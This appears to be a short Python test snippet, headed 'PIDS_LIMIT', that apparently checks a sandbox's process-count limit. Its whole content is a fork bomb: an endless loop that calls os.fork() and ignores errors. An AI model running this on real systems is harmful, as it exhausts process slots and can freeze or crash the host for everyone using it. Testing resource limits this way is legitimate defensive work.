# PIDS_LIMIT
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
